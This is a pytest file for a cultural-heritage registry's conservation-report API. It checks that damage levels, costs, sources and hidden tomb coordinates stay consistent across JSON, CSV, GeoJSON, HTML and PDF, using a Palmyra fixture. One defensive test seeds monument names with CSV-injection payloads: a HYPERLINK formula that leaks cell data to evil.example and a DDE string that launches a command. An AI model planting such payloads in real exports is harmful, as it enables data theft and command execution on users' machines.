"""State-of-conservation reports: every format tells the same story, for any date."""

import csv
import io
import json
import re
from datetime import UTC, datetime
from decimal import Decimal

import geojson
import pytest
from geojson_pydantic import FeatureCollection
from sqlalchemy import update

from app.assessments.models import DamageAssessment
from app.monuments.models import Monument
from tests.factories import (
    create_assessment,
    create_monument,
    create_restoration,
    create_site,
    create_source,
    statement_fields,
)


def report_url(site_id: int) -> str:
    return f"/api/v1/reports/sites/{site_id}/state-of-conservation"


def backdate_review(database, assessment_id: int, day: str) -> None:
    """Arrange history: the assessment was verified on `day` (noon UTC)."""
    reviewed_at = datetime.fromisoformat(day).replace(hour=12, tzinfo=UTC)
    with database.session(write=True) as session:
        session.execute(
            update(DamageAssessment)
            .where(DamageAssessment.id == assessment_id)
            .values(reviewed_at=reviewed_at)
        )


@pytest.fixture
def palmyra(database):
    """A small Palmyra: Bel destroyed, the Arch severely damaged then destroyed, a sensitive
    tomb destroyed, the Agora unassessed, and restoration opinions with costs."""
    site_id = create_site(database, whc_id=23)
    bel = create_monument(database, site_id, name="Temple of Bel")
    arch = create_monument(
        database, site_id, name="Monumental Arch", type="arch", lat=34.5508, lon=38.2703
    )
    tomb = create_monument(
        database,
        site_id,
        name="Tower of Elahbel",
        type="tomb",
        lat=34.55358,
        lon=38.25032,
        sensitive=True,
    )
    agora = create_monument(database, site_id, name="Agora", type="agora", lat=34.5505, lon=38.2665)
    with database.session(write=True) as session:  # recorded in the registry back in 2010
        session.execute(
            update(Monument)
            .where(Monument.site_id == site_id)
            .values(created_at=datetime(2010, 1, 1, tzinfo=UTC))
        )
    timeline = [
        (bel, "2015-08-31", "destroyed", ["deliberate_destruction", "explosives"], "2015-09-02"),
        (arch, "2015-09-20", "severe_damage", ["military_activity"], "2015-09-25"),
        (arch, "2015-10-04", "destroyed", ["deliberate_destruction", "explosives"], "2015-10-06"),
        (tomb, "2015-09-02", "destroyed", ["deliberate_destruction", "looting"], "2015-09-04"),
    ]
    for monument_id, observed_on, level, causes, verified_on in timeline:
        assessment_id = create_assessment(
            database,
            monument_id,
            status="verified",
            observed_on=observed_on,
            damage_level=level,
            causes=causes,
        )
        backdate_review(database, assessment_id, verified_on)
    # Approved technical assessments: each is its monument's plan of record.
    create_restoration(
        database,
        arch,
        status="approved",
        priority="urgent",
        prerequisites=["demining", "security_clearance"],
        estimated_cost={"amount": "1500000.10", "currency": "USD"},
    )
    create_restoration(
        database,
        bel,
        status="approved",
        priority="high",
        prerequisites=["demining"],
        estimated_cost={"amount": "2500000.205", "currency": "USD"},
    )
    create_restoration(
        database,
        tomb,
        status="approved",
        priority=None,
        prerequisites=["funding"],
        estimated_cost={"amount": "300000", "currency": "EUR"},
    )
    return {"site": site_id, "bel": bel, "arch": arch, "tomb": tomb, "agora": agora}


def test_json_report_summarises_the_property(client, palmyra):
    response = client.get(report_url(palmyra["site"]))
    assert response.status_code == 200, response.text
    report = response.json()

    assert report["property"]["whc_id"] == 23
    assert [m["id"] for m in report["monuments"]] == [
        palmyra["bel"],
        palmyra["arch"],
        palmyra["tomb"],
        palmyra["agora"],
    ]
    summary = report["summary"]
    assert summary["by_damage_level"] == {
        "no_visible_damage": 0,
        "possible_damage": 0,
        "moderate_damage": 0,
        "severe_damage": 0,
        "destroyed": 3,
        "unassessed": 1,
    }
    assert sum(summary["by_damage_level"].values()) == summary["monuments"] == 4
    assert summary["destroyed_or_severe_share"] == 0.75
    factors = {f["cause"]: f["monument_ids"] for f in summary["factors"]}
    assert factors["deliberate_destruction"] == [palmyra["bel"], palmyra["arch"], palmyra["tomb"]]
    assert factors["looting"] == [palmyra["tomb"]]
    assert (
        "military_activity" not in factors
    )  # the Arch's earlier observation is superseded by date
    needs = summary["restoration_needs"]
    assert needs["by_priority"] == {"urgent": 1, "high": 1, "medium": 0, "low": 0, "unstated": 1}
    assert needs["estimated_cost"] == [
        {"amount": "300000.00", "currency": "EUR"},
        {"amount": "4000000.305", "currency": "USD"},
    ]
    waiting = {n["prerequisite"]: n["monuments_waiting"] for n in needs["prerequisites"]}
    assert waiting == {"demining": 2, "security_clearance": 1, "funding": 1}


def test_provenance_names_the_audit_chain_head(client, auth, palmyra):
    report = client.get(report_url(palmyra["site"])).json()
    verification = client.get("/api/v1/audit/verify", headers=auth("staff")).json()
    assert report["provenance"]["audit_chain_head"] == verification["head"]
    assert report["provenance"]["audit_events"] == verification["length"]


def test_as_of_follows_observations_and_known_at_follows_verification(client, palmyra):
    def levels(**params):
        report = client.get(report_url(palmyra["site"]), params=params).json()
        return {
            m["id"]: m["condition"]["damage_level"] if m["condition"] else None
            for m in report["monuments"]
        }

    everything = ("bel", "arch", "tomb", "agora")
    assert levels(as_of="2015-08-30") == {palmyra[k]: None for k in everything}
    # Bel was seen destroyed on 31 August; the registry verified it on 2 September.
    assert levels(as_of="2015-08-31")[palmyra["bel"]] == "destroyed"
    assert levels(known_at="2015-08-31") == {palmyra[k]: None for k in everything}
    assert levels(known_at="2015-09-02")[palmyra["bel"]] == "destroyed"
    on_sept_30 = levels(as_of="2015-09-30")
    assert on_sept_30[palmyra["bel"]] == "destroyed"
    assert on_sept_30[palmyra["arch"]] == "severe_damage"
    assert levels(as_of="2015-10-04")[palmyra["arch"]] == "destroyed"
    assert levels(as_of="2015-10-04", known_at="2015-10-05")[palmyra["arch"]] == "severe_damage"


def test_compare_to_lists_each_change_with_the_assessments_on_both_sides(client, palmyra):
    report = client.get(
        report_url(palmyra["site"]), params={"as_of": "2015-10-31", "compare_to": "2015-09-21"}
    ).json()
    arch_history = client.get(f"/api/v1/monuments/{palmyra['arch']}/assessments").json()
    severe, destroyed = (a["id"] for a in arch_history["items"])
    assert report["comparison"]["compare_to"] == "2015-09-21"
    assert report["comparison"]["changes"] == [
        {
            "monument_id": palmyra["arch"],
            "name": "Monumental Arch",
            "from_level": "severe_damage",
            "to_level": "destroyed",
            "from_assessment_id": severe,
            "to_assessment_id": destroyed,
        }
    ]
    # Both dates are read at the same known_at: on 1 October the Arch's later state was
    # not yet known.
    known_then = client.get(
        report_url(palmyra["site"]),
        params={"as_of": "2015-10-31", "compare_to": "2015-09-21", "known_at": "2015-10-01"},
    ).json()
    assert known_then["known_at"] == "2015-10-01"
    assert known_then["comparison"]["changes"] == []
    later = client.get(
        report_url(palmyra["site"]), params={"as_of": "2015-09-21", "compare_to": "2015-10-31"}
    )
    assert later.status_code == 422
    assert "compare_to" in later.json()["detail"]


def parse_csv(response) -> list[dict]:
    assert response.content.startswith("\ufeff".encode())  # BOM: spreadsheets read UTF-8
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_json_csv_and_geojson_agree(client, palmyra):
    url = report_url(palmyra["site"])
    report = client.get(url).json()
    rows = parse_csv(client.get(url, params={"format": "csv"}))
    collection_response = client.get(url, headers={"Accept": "application/geo+json"})
    assert collection_response.headers["content-type"] == "application/geo+json"
    collection = geojson.loads(collection_response.text)
    assert collection.is_valid, collection.errors()
    FeatureCollection.model_validate_json(collection_response.text)

    json_levels = [
        (m["condition"] or {}).get("damage_level", "unassessed") for m in report["monuments"]
    ]
    csv_levels = [row["damage_level"] for row in rows]
    geo_levels = [f["properties"]["damage_level"] for f in collection["features"]]
    assert json_levels == csv_levels == geo_levels
    assert [int(r["monument_id"]) for r in rows] == [m["id"] for m in report["monuments"]]
    for row, feature, monument in zip(
        rows, collection["features"], report["monuments"], strict=True
    ):
        assert float(row["lat"]) == monument["lat"] == feature["geometry"]["coordinates"][1]
        assert float(row["lon"]) == monument["lon"] == feature["geometry"]["coordinates"][0]


def test_csv_keeps_arabic_names_and_a_stable_header(client, database):
    site_id = create_site(database)
    create_monument(database, site_id, name="معبد بل", alt_names=["Temple of Bel"])
    response = client.get(report_url(site_id), params={"format": "csv"})
    rows = parse_csv(response)
    assert rows[0]["name"] == "معبد بل"
    from app.reports.formats import CSV_COLUMNS

    assert list(rows[0]) == CSV_COLUMNS


def test_csv_cells_are_never_read_as_spreadsheet_formulas(client, database):
    site_id = create_site(database)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bel")'
    create_monument(
        database,
        site_id,
        name=formula,
        alt_names=["@SUM(1+1)*cmd|' /C calc'!A0"],
        period="+1+2",
        lat=-13.1631,
        lon=-72.545,
    )

    rows = parse_csv(client.get(report_url(site_id), params={"format": "csv"}))

    assert rows[0]["name"] == "'" + formula
    assert rows[0]["alt_names"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[0]["period"] == "'+1+2"
    # Numbers stay numbers, and other formats keep the text as it was given.
    assert (rows[0]["lat"], rows[0]["lon"]) == ("-13.1631", "-72.545")
    monument = client.get(report_url(site_id)).json()["monuments"][0]
    assert monument["name"] == formula


@pytest.mark.parametrize("role", [None, "partner"])
def test_sensitive_positions_stay_generalised_in_every_format(client, auth, palmyra, role):
    url = report_url(palmyra["site"])
    for fmt in ("json", "csv", "geojson", "html"):
        text = client.get(url, params={"format": fmt}, headers=auth(role)).text
        assert "34.55358" not in text and "38.25032" not in text, fmt
    tomb = next(
        m
        for m in client.get(url, headers=auth(role)).json()["monuments"]
        if m["id"] == palmyra["tomb"]
    )
    assert (tomb["lat"], tomb["lon"], tomb["location_generalised"]) == (34.6, 38.3, True)
    staff_view = client.get(url, params={"format": "csv"}, headers=auth("staff")).text
    assert "34.55358" in staff_view


def test_html_and_pdf_are_printable_and_self_contained(client, palmyra):
    url = report_url(palmyra["site"])
    html = client.get(url, headers={"Accept": "text/html"})
    assert html.headers["content-type"].startswith("text/html")
    assert html.text.count("<tr data-monument-id=") == 4
    assert 'id="damage-chart"' in html.text and 'id="site-map"' in html.text
    assert "http://" not in html.text.replace("http://www.w3.org/2000/svg", "")
    assert "https://" not in html.text
    pdf = client.get(url, params={"format": "pdf"})
    assert pdf.headers["content-type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF-")
    assert 'filename="state-of-conservation-site-' in pdf.headers["content-disposition"]


def test_the_html_report_may_run_nothing_and_load_nothing(client, auth, palmyra):
    api = client.get(report_url(palmyra["site"]), params={"format": "html"})
    page = client.get(f"/ui/sites/{palmyra['site']}/report", headers=auth(None))

    for response in (api, page):
        policy = response.headers["content-security-policy"]
        assert "default-src 'none'" in policy and "script-src" not in policy
        assert "img-src data:" in policy and "frame-ancestors 'none'" in policy
        assert response.headers["x-content-type-options"] == "nosniff"


def test_unproducible_accept_is_406(client, palmyra):
    response = client.get(report_url(palmyra["site"]), headers={"Accept": "image/png"})
    assert response.status_code == 406
    assert "format=" in response.json()["detail"]
    assert client.get(report_url(palmyra["site"]), params={"format": "xlsx"}).status_code == 422
    assert client.get(report_url(999999)).status_code == 404


def test_every_monument_is_listed_under_any_as_of_and_known_at_hides_later_records(
    client, auth, palmyra
):
    client.delete(f"/api/v1/monuments/{palmyra['agora']}", headers=auth("admin"))
    today = client.get(report_url(palmyra["site"])).json()
    assert palmyra["agora"] not in [m["id"] for m in today["monuments"]]
    long_ago = client.get(report_url(palmyra["site"]), params={"as_of": "2000-01-01"}).json()
    assert [m["id"] for m in long_ago["monuments"]] == [m["id"] for m in today["monuments"]]
    assert all(m["condition"] is None for m in long_ago["monuments"])
    assert long_ago["summary"]["destroyed_or_severe_share"] == 0
    # Recorded in 2010, withdrawn today: the registry of 2012 held all four.
    in_2012 = client.get(report_url(palmyra["site"]), params={"known_at": "2012-01-01"}).json()
    assert palmyra["agora"] in [m["id"] for m in in_2012["monuments"]]
    before_any = client.get(report_url(palmyra["site"]), params={"known_at": "2009-12-31"})
    assert before_any.json()["monuments"] == []
    assert "2009-12-31" in before_any.json()["notice"]
    assert (
        "2009-12-31"
        in client.get(
            report_url(palmyra["site"]), params={"known_at": "2009-12-31", "format": "html"}
        ).text
    )


def test_registry_summary_groups_counts(client, database, palmyra):
    iraq = create_site(database, name="Hatra", country="IQ", whc_id=277)
    hatra = create_monument(database, iraq, name="Temple of Shamash", lat=35.58, lon=42.72)
    create_assessment(database, hatra, status="verified", damage_level="severe_damage")

    by_site = client.get("/api/v1/reports/summary", params={"group_by": "site"}).json()
    assert by_site["monuments"] == 5
    groups = {g["label"]: g for g in by_site["groups"]}
    assert groups["Site of Palmyra"]["by_damage_level"]["destroyed"] == 3
    assert groups["Hatra"]["by_damage_level"]["severe_damage"] == 1

    syria = client.get(
        "/api/v1/reports/summary", params={"country": "SY", "group_by": "damage_level"}
    ).json()
    assert {g["key"]: g["monuments"] for g in syria["groups"]} == {"destroyed": 3, "unassessed": 1}

    by_type = client.get("/api/v1/reports/summary", params={"group_by": "type"}).json()
    assert {g["key"]: g["monuments"] for g in by_type["groups"]} == {
        "temple": 2,
        "arch": 1,
        "tomb": 1,
        "agora": 1,
    }
    assert client.get("/api/v1/reports/summary", params={"group_by": "colour"}).status_code == 422


def test_money_totals_are_exact(client, palmyra):
    totals = client.get(report_url(palmyra["site"])).json()["summary"]["restoration_needs"]
    usd = next(c for c in totals["estimated_cost"] if c["currency"] == "USD")
    assert Decimal(usd["amount"]) == Decimal("1500000.10") + Decimal("2500000.205")
    assert json.dumps(usd)  # amounts are strings, never floats


def test_photo_evidence_is_counted_and_the_latest_thumbnail_embedded(client, database, palmyra):
    from tests.factories import create_photo

    create_photo(database, client.app.state.storage, palmyra["bel"])
    url = report_url(palmyra["site"])
    bel = next(m for m in client.get(url).json()["monuments"] if m["id"] == palmyra["bel"])
    assert bel["evidence"]["photos"] == 1
    assert bel["evidence"]["latest_photo_on"] is not None
    rows = {int(r["monument_id"]): r for r in parse_csv(client.get(url, params={"format": "csv"}))}
    assert rows[palmyra["bel"]]["photos"] == "1" and rows[palmyra["arch"]]["photos"] == "0"
    html = client.get(url, params={"format": "html"}).text
    assert html.count('class="thumbnail" src="data:image/jpeg;base64,') == 1
    # The PDF embeds the same thumbnail (found by the fuzzer: this answered 500 once).
    pdf = client.get(url, params={"format": "pdf"})
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF-")
    assert b"/Subtype /Image" in pdf.content or b"/Subtype/Image" in pdf.content
    earlier = client.get(url, params={"as_of": "2016-01-01"}).json()["monuments"]
    assert all(m["evidence"]["photos"] == 0 for m in earlier)  # uploaded today


def test_the_headline_is_the_plan_of_record_and_statements_stay_with_the_property(
    client, database, palmyra
):
    """Lamb's 90–95 % about the whole site, and Matthiae's 98 % said of Bel, are claims: the
    property section lists the first once, and neither becomes a monument's headline in any
    format. The plan of record (the approved technical assessment) does."""
    site, bel = palmyra["site"], palmyra["bel"]
    lamb = create_restoration(database, site_id=site, **statement_fields())
    create_restoration(
        database,
        bel,
        status="approved",
        **statement_fields(
            claimant={"name": "Paolo Matthiae"},
            feasibility="feasible",
            approach="anastylosis",
            restorable_percent_min=None,
            restorable_percent_max=None,
            restorable_percent=98,
        ),
    )
    proposal = create_restoration(database, bel, feasibility="feasible", restorable_percent=75)
    url = report_url(site)

    report = client.get(url).json()
    statements = report["property_statements"]
    assert [s["id"] for s in statements] == [lamb]
    assert statements[0]["claimant"]["name"] == "Franklin Lamb"
    assert (statements[0]["restorable_percent_min"], statements[0]["restorable_percent_max"]) == (
        90,
        95,
    )
    entries = {m["id"]: m for m in report["monuments"]}
    plan = entries[bel]["restoration"]
    assert plan["id"] not in (lamb, proposal)
    assert (plan["feasibility"], plan["approach"], plan["restorable_percent"]) == (
        "partially_feasible",
        "anastylosis",
        None,
    )
    assert entries[palmyra["agora"]]["restoration"] is None  # no plan, whatever is said

    rows = {int(r["monument_id"]): r for r in parse_csv(client.get(url, params={"format": "csv"}))}
    features = {
        f["id"]: f["properties"]
        for f in client.get(url, params={"format": "geojson"}).json()["features"]
    }
    for flat in (rows[bel], features[bel]):
        assert flat["restoration_feasibility"] == "partially_feasible"
    assert (rows[bel]["restorable_percent"], features[bel]["restorable_percent"]) == ("", None)
    assert rows[bel]["waiting_on"] == "demining; security_clearance"
    assert features[bel]["waiting_on"] == ["demining", "security_clearance"]
    html = client.get(url, params={"format": "html"}).text
    section = html[html.index("Statements about the property") : html.index('id="monuments"')]
    assert "Franklin Lamb" in section and "90–95 % restorable" in section
    # The row's cells only: its own id attribute may contain "98" (monument 1198).
    row_start = f'data-monument-id="{bel}">'
    bel_row = html[html.index(row_start) + len(row_start) :].split("</tr>")[0]
    assert "Plan: partially feasible" in bel_row
    assert "98" not in bel_row and "Lamb" not in bel_row


def test_every_format_cites_the_same_sources(client, database, palmyra):
    unosat = create_source(database, title="UNOSAT analysis of the Temple of Bel")
    dgam = create_source(
        database, title="DGAM statement on the Arch", url="https://example.org/dgam/arch"
    )
    seed = create_source(database, title="Seed article", url="https://example.org/seed")
    bel_seen = create_assessment(
        database,
        palmyra["bel"],
        status="verified",
        observed_on="2016-03-31",
        damage_level="destroyed",
        source_ids=[unosat],
    )
    create_restoration(
        database, palmyra["arch"], status="approved", priority="high", source_ids=[dgam, unosat]
    )
    create_restoration(database, site_id=palmyra["site"], **statement_fields(source_ids=[seed]))
    url = report_url(palmyra["site"])

    report = client.get(url).json()
    numbers = {source["id"]: source["number"] for source in report["sources"]}
    assert sorted(numbers.values()) == list(range(1, len(numbers) + 1))
    assert {seed, unosat, dgam} <= set(numbers)
    assert [s["source_ids"] for s in report["property_statements"]] == [[seed]]
    by_monument = {m["id"]: m["source_ids"] for m in report["monuments"]}
    assert unosat in by_monument[palmyra["bel"]]
    assert by_monument[palmyra["arch"]][-2:] == [dgam, unosat]  # its plan of record's, in order
    bel_assessments = client.get(f"/api/v1/monuments/{palmyra['bel']}/assessments").json()
    assert bel_seen in [a["id"] for a in bel_assessments["items"]]

    rows = {int(r["monument_id"]): r for r in parse_csv(client.get(url, params={"format": "csv"}))}
    collection = geojson.loads(client.get(url, params={"format": "geojson"}).text)
    features = {f["id"]: f["properties"] for f in collection["features"]}
    html = client.get(url, params={"format": "html"}).text
    titles = {source["id"]: source["title"] for source in report["sources"]}
    for monument_id, cited in by_monument.items():
        ids = "; ".join(map(str, cited))
        assert rows[monument_id]["source_ids"] == ids
        assert features[monument_id]["source_ids"] == cited
        for source_id in cited:
            assert f"[{numbers[source_id]}] {titles[source_id]}" in rows[monument_id]["sources"]
        row = re.search(rf'<tr data-monument-id="{monument_id}">.*?</tr>', html, re.S).group(0)
        assert re.findall(r'href="#source-(\d+)"', row) == [str(numbers[i]) for i in cited]
    for source in report["sources"]:
        assert f'<li id="source-{source["number"]}"' in html
        assert source["title"] in html
